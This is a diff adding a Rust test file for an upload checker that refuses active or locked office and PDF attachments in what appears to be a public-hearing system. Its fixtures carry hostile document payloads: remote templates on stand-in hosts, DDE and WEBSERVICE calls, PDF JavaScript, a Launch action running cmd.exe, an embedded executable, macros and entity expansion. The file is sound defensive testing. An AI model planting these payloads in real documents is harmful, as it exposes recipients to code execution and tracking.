@@ -1,0 +1,197 @@
+//! Files that would not lie still: what loads or runs by itself, what hides behind a password, what is no whole document,
+//! is told to the person who can do something about it.
+
+use openapi::{hearings::Hearing, ids::DraftId, problem::ProblemCode};
+use tests::{
+    App, Person,
+    attachments::{WORD, archive, files_in, pdf_with, upload},
+    key, refused,
+};
+
+const EXCEL: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";
+const OFFICE: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
+
+async fn writing(app: &App) -> (Person, Hearing, DraftId) {
+    let (employee, hearing) = (app.employee(1), app.hearing().open().await);
+    let draft = employee.write(hearing.id, "Mine ord").await;
+    (employee, hearing, draft.id)
+}
+
+fn part(name: &str, content: &str) -> (String, Vec<u8>) {
+    (name.to_owned(), content.as_bytes().to_vec())
+}
+
+fn relationship(kind: &str, target: &str, mode: &str) -> String {
+    format!("<Relationship Id=\"r9\" Type=\"{OFFICE}/{kind}\" Target=\"{target}\" TargetMode=\"{mode}\"/>")
+}
+
+/// An office document with a relationship of its main part, or none, and more parts.
+fn office(main: &str, kind: &str, content: &str, relationship: &str, more: &[(String, Vec<u8>)]) -> Vec<u8> {
+    let (folder, file) = main.split_once('/').unwrap();
+    let mut parts = vec![
+        part("[Content_Types].xml", &format!("<Types><Override PartName=\"/{main}\" ContentType=\"{kind}\"/></Types>")),
+        part(
+            "_rels/.rels",
+            &format!(
+                "<Relationships><Relationship Type=\"{OFFICE}/officeDocument\" Target=\"{main}\"/></Relationships>"
+            ),
+        ),
+        part(main, content),
+        part(&format!("{folder}/_rels/{file}.rels"), &format!("<Relationships>{relationship}</Relationships>")),
+    ];
+    parts.extend_from_slice(more);
+    archive(&parts)
+}
+
+fn docx(content: &str, relationship: &str) -> Vec<u8> {
+    office("word/document.xml", WORD, &format!("<w:document>{content}</w:document>"), relationship, &[])
+}
+
+fn xlsx(content: &str, relationship: &str) -> Vec<u8> {
+    office("xl/workbook.xml", EXCEL, &format!("<workbook>{content}</workbook>"), relationship, &[])
+}
+
+fn odt(content: &str, listed: &str) -> Vec<u8> {
+    archive(&[
+        part("mimetype", "application/vnd.oasis.opendocument.text"),
+        part("content.xml", &format!("<office:document-content>{content}</office:document-content>")),
+        part(
+            "META-INF/manifest.xml",
+            &format!("<m:manifest><m:file-entry m:full-path=\"content.xml\">{listed}</m:file-entry></m:manifest>"),
+        ),
+    ])
+}
+
+/// A PDF document whose catalog has this in it, and one object more.
+fn pdf(catalog: &str, more: &str) -> Vec<u8> {
+    let content = pdf_with(&[more.as_bytes().to_vec()], "", b"Hej", 0);
+    let mut document = lopdf::Document::load_mem(&content).unwrap();
+    let source = format!("<<{catalog}>>");
+    let extra = lopdf::Document::load_mem(&pdf_with(&[source.into_bytes()], "/Info 6 0 R", b"", 0)).unwrap();
+    let extra = extra.get_dictionary((6, 0)).unwrap().clone();
+    document.catalog_mut().unwrap().extend(&extra);
+    let mut written = Vec::new();
+    // In streams of objects, where nobody finds them who only searches the bytes.
+    document.save_modern(&mut written).unwrap();
+    written
+}
+
+fn encrypted(user: &str) -> Vec<u8> {
+    let mut document = lopdf::Document::load_mem(&pdf_with(&[], "/ID[<01><02>]", b"Hej", 0)).unwrap();
+    let version = lopdf::EncryptionVersion::V2 {
+        document: &document,
+        owner_password: "ejer",
+        user_password: user,
+        key_length: 128,
+        permissions: lopdf::Permissions::empty(),
+    };
+    let state = lopdf::EncryptionState::try_from(version).unwrap();
+    document.encrypt(&state).unwrap();
+    let mut written = Vec::new();
+    document.save_to(&mut written).unwrap();
+    written
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn what_loads_or_runs_by_itself_is_refused() {
+    let app = App::start().await;
+    let (employee, hearing, draft) = writing(&app).await;
+    let field =
+        "<w:fldChar w:fldCharType=\"begin\"/><w:instrText> DDE</w:instrText><w:instrText>AUTO c:\\x</w:instrText>";
+    let image = "<draw:image xlink:href=\"https://spion.example/x.png\"/>";
+    let active = [
+        ("skabelon.docx", docx("", &relationship("attachedTemplate", "https://ond.example/x.dotm", "External"))),
+        ("netdrev.docx", docx("", &relationship("attachedTemplate", "file://server/x.dotm", "External"))),
+        ("billede.docx", docx("", &relationship("image", "https://spion.example/x.png", "External"))),
+        ("objekt.docx", docx("", &relationship("oleObject", "embeddings/o.bin", "Internal"))),
+        ("pakke.docx", docx("", &relationship("package", "embeddings/o.xlsx", "Internal"))),
+        ("kontrol.docx", docx("", &relationship("control", "activeX/a.xml", "Internal"))),
+        ("andet.docx", docx("", &relationship("aFChunk", "chunk.html", "Internal"))),
+        ("felt.docx", docx(field, "")),
+        ("enkelt.docx", docx("<w:fldSimple w:instr=\"INCLUDEPICTURE &quot;https://x.example&quot;\"/>", "")),
+        ("data.xlsx", xlsx("", &relationship("connections", "connections.xml", "Internal"))),
+        ("kobling.xlsx", xlsx("<ddeLink ddeService=\"cmd\"/>", "")),
+        ("funktion.xlsx", xlsx("<f>1+_xlfn.WEBSERVICE(\"https://x.example\")</f>", "")),
+        ("billede.odt", odt(image, "")),
+        ("objekt.odt", odt("<draw:object-ole xlink:href=\"./Object 1\"/>", "")),
+        ("kobling.odt", odt("<text:dde-connection-decl office:dde-application=\"soffice\"/>", "")),
+        ("script.pdf", pdf("/OpenAction 6 0 R", "<</S/JavaScript/JS(app.alert(1))>>")),
+        ("navne.pdf", pdf("/Names<</JavaScript<</Names[(a) 6 0 R]>>>>", "<</S/JavaScript/JS 5 0 R>>")),
+        ("start.pdf", pdf("/OpenAction 6 0 R", "<</S/Launch/F(cmd.exe)>>")),
+        ("adresse.pdf", pdf("/AA<</WC 6 0 R>>", "<</S/URI/URI(https://x.example)>>")),
+        ("fil.pdf", pdf("/Names<</EmbeddedFiles<</Names[(a) 6 0 R]>>>>", "<</Type/Filespec/F(x.exe)/EF<</F 5 0 R>>>>")),
+    ];
+    for (name, content) in active {
+        let refusal = refused(employee.create_attachment(hearing.id, draft, &upload(name, content), &key()).await);
+        assert_eq!(refusal.code, ProblemCode::AttachmentActive, "{name}");
+    }
+    let listener = "<script:event-listener xlink:href=\"vnd.sun.star.script:x\"/>";
+    for (name, content) in
+        [("makro.odt", odt(listener, "")), ("makro.docx", docx("", &relationship("vbaProject", "v.bin", "Internal")))]
+    {
+        let refusal = refused(employee.create_attachment(hearing.id, draft, &upload(name, content), &key()).await);
+        assert_eq!(refusal.code, ProblemCode::AttachmentMacros, "{name}");
+    }
+    assert!(files_in(app.files()).is_empty(), "nothing is left of them");
+    app.finish().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn what_only_leads_somewhere_is_taken() {
+    let app = App::start().await;
+    let (employee, hearing, draft) = writing(&app).await;
+    let chart = [
+        part("word/charts/chart1.xml", "<c:chart><c:externalData r:id=\"r9\"/><c:v>7</c:v></c:chart>"),
+        part(
+            "word/charts/_rels/chart1.xml.rels",
+            &format!(
+                "<Relationships>{}</Relationships>",
+                relationship("package", "../embeddings/tal.xlsx", "Internal")
+            ),
+        ),
+        ("word/embeddings/tal.xlsx".to_owned(), xlsx("", "")),
+    ];
+    let to_chart = relationship("chart", "charts/chart1.xml", "Internal");
+    let still = [
+        ("henvisning.docx", docx("", &relationship("hyperlink", "https://www.eksempel.dk/", "External"))),
+        ("skabelon.docx", docx("", &relationship("attachedTemplate", "file:///K:\\Brev.dotx", "External"))),
+        ("diagram.docx", office("word/document.xml", WORD, "<w:document/>", &to_chart, &chart)),
+        ("formel.xlsx", xlsx("<f>SUM(A1:A3)</f>", "")),
+        ("henvisning.odt", odt("<text:a xlink:href=\"https://www.eksempel.dk/\">her</text:a>", "")),
+        ("side.pdf", pdf("/OpenAction[3 0 R/Fit]", "<</S/URI/URI(https://www.eksempel.dk)>>")),
+        ("kun til at læse.pdf", encrypted("")),
+    ];
+    for (name, content) in still {
+        employee.create_attachment(hearing.id, draft, &upload(name, content), &key()).await.expect(name);
+    }
+    app.finish().await;
+}
+
+/// What cannot be read cannot be cleaned, and is not shown as it is: the person who has the password hears of it.
+#[tokio::test(flavor = "multi_thread")]
+async fn what_cannot_be_read_is_refused_and_says_why() {
+    let app = App::start().await;
+    let (employee, hearing, draft) = writing(&app).await;
+    let name: Vec<u8> = "EncryptedPackage".encode_utf16().flat_map(u16::to_le_bytes).collect();
+    let locked = [b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".to_vec(), vec![0; 70_000], name].concat();
+    let old = [b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".to_vec(), vec![0; 70_000]].concat();
+    let whole = pdf_with(&[], "", b"Hej", 0);
+    let lost = String::from_utf8_lossy(&whole).into_owned().replace("<</Length 00", "<(/Length 00");
+    let trick =
+        office("word/document.xml", WORD, "<!DOCTYPE x [<!ENTITY a \"aaaa\">]><w:document>&a;</w:document>", "", &[]);
+    for (name, content, code) in [
+        ("låst.pdf", encrypted("hemmeligt"), ProblemCode::AttachmentProtected),
+        ("låst.docx", locked, ProblemCode::AttachmentProtected),
+        ("låst.odt", odt("", "<m:encryption-data/>"), ProblemCode::AttachmentProtected),
+        ("gammel.docx", old, ProblemCode::AttachmentMislabelled),
+        ("tom.pdf", b"%PDF-1.7\n".to_vec(), ProblemCode::AttachmentDamaged),
+        ("halv.pdf", whole[..whole.len() / 2].to_vec(), ProblemCode::AttachmentDamaged),
+        ("mistet.pdf", lost.into_bytes(), ProblemCode::AttachmentDamaged),
+        ("halv.docx", docx("<w:p>", ""), ProblemCode::AttachmentDamaged),
+        ("trick.docx", trick, ProblemCode::AttachmentDamaged),
+    ] {
+        let refusal = refused(employee.create_attachment(hearing.id, draft, &upload(name, content), &key()).await);
+        assert_eq!(refusal.code, code, "{name}");
+    }
+    app.finish().await;
+}
